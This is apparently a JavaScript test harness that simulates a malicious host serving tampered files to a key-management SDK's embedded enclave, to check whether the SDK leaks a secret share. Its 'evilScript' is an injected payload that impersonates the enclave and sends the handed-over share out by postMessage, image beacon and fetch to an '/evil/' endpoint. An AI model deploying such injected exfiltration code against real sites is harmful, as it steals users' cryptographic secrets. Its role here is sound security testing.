// A host that lies, and what came of it.
//
// Every liar is an origin of its own, because what a lying host served stays in a browser's cache.
// Its code, where it runs, says so in two ways: to the embedding page, and to its own host. It does
// the whole handshake, so that it gets the share if the SDK would hand it one.

import { Host } from "./harness.mjs";

/** The liar's code. It says "ran", and "share:…" once it was handed one; then it plays the enclave. */
export const evilScript = ({ measurement, pin }) => `(() => {
  const say = (what) => {
    parent.postMessage({ evil: what }, "*");
    new Image().src = "/evil/" + what;
    fetch("/evil/" + what).catch(() => {});
  };
  say("ran");
  addEventListener("message", ({ data, ports }) => {
    if (data?.type !== "connect") return;
    say("share:" + Array.from(data.share).join("."));
    ports[0]?.postMessage('{"event":"ready","data":{}}');
  });
  parent.postMessage({ kmsEnclave: 1, type: "ready", version: "1.0.0", commit: "${"0".repeat(40)}", measurement: "${measurement}", wasm: "${pin.wasm}" }, "*");
})();`;

/** Which part of a release a request asks for: "page", "loader" or "wasm". */
function partOf({ pathname }) {
  return { html: "page", js: "loader", wasm: "wasm" }[/^\/r\/[0-9a-f]{32}\/[a-z0-9]+\.(html|js|wasm)$/.exec(pathname)?.[1]];
}

/** A host that tells one lie. */
export class Liar {
  delivered = { everybody: 0, frame: 0 };
  /** What the liar's code said to its host. */
  heard = [];
  /** Bytes of endless answers that were taken. */
  poured = 0;

  static async start(release, other, lie) {
    const liar = new Liar();
    liar.host = await Host.start(release);
    liar.lie = lie;
    liar.context = { release, other, evil: evilScript(release), origin: liar.host.origin, liar };
    liar.host.intercept = (url, request, answer) => liar.#answer(url, request, answer);
    return liar;
  }

  async #answer(url, request, answer) {
    if (url.pathname.startsWith("/evil/")) {
      if (/^\/evil\/(ran|share)/.test(url.pathname)) this.heard.push(url.pathname.slice(6));
      return this.lie.extra?.(this.context)[url.pathname] ?? { body: "" };
    }
    const part = partOf(url);
    // The module is fetched by the SDK alone; page and loader by the SDK's check, and for the frame.
    const forFrame = ["iframe", "script"].includes(request.headers["sec-fetch-dest"]);
    const change = part && this.lie[part];
    if (!answer || !change || (this.lie.frameOnly && !forFrame) || (this.lie.spare && url.search === this.lie.spare)) return undefined;
    this.delivered.everybody++;
    if (forFrame) this.delivered.frame++;
    return await change(answer, this.context, url, request);
  }

  async stop() {
    await this.host.server.close();
  }
}

/** Prepares a page for attempts: it keeps what liars say to it. */
export function listen() {
  window.said = [];
  window.addEventListener("message", ({ data, origin }) => {
    if (typeof data?.evil === "string") window.said.push({ origin, what: data.evil });
  });
}

/**
 * Connects to a release. With patienceMs it is embedded a second time with the same attributes, as
 * a witness that nobody takes away when the launch fails: the liar's code has time to run.
 */
export async function attempt({ url, pin, timeoutMs, patienceMs }) {
  const container = document.createElement("div");
  document.body.append(container);
  const share = crypto.getRandomValues(new Uint8Array(32));
  const started = performance.now();
  const connecting = connect({ url, pin, account: url, container, timeoutMs, share });
  const witness = container.querySelector("dialog > div").shadowRoot.querySelector("iframe").cloneNode();
  const patience = patienceMs && new Promise((resolve) => {
    const settled = () => setTimeout(resolve, patienceMs);
    witness.addEventListener("load", settled, { once: true });
    // A page whose loader runs stops loading, and so never has loaded.
    addEventListener("message", ({ source }) => source === witness.contentWindow && settled());
    setTimeout(resolve, 3000);
  });
  if (patience) document.body.append(witness);
  const outcome = await connecting.then(
    (kms) => {
      window.kept = kms;
      const { level, measurement } = kms.launch;
      return { level, measurement };
    },
    ({ code, message, details }) => ({ code, message, cause: details?.cause, reason: details?.reason }),
  );
  outcome.ms = performance.now() - started;
  await patience;
  witness.remove();
  container.remove();
  const { origin } = new URL(url);
  return { ...outcome, share: Array.from(share).join("."), said: window.said.filter((each) => each.origin === origin).map(({ what }) => what) };
}

/** Runs task for every item, in order, so many at a time; returns a promise per item at once. */
export function pool(items, width, task) {
  const waiting = [];
  let free = width;
  const turn = () => (free > 0 ? (free--, Promise.resolve()) : new Promise((resolve) => waiting.push(resolve)));
  const done = () => (waiting.length > 0 ? waiting.shift()() : free++);
  const results = items.map((item) => turn().then(() => task(item)).finally(done));
  for (const result of results) result.catch(() => {}); // whoever awaits it sees it
  return results;
}
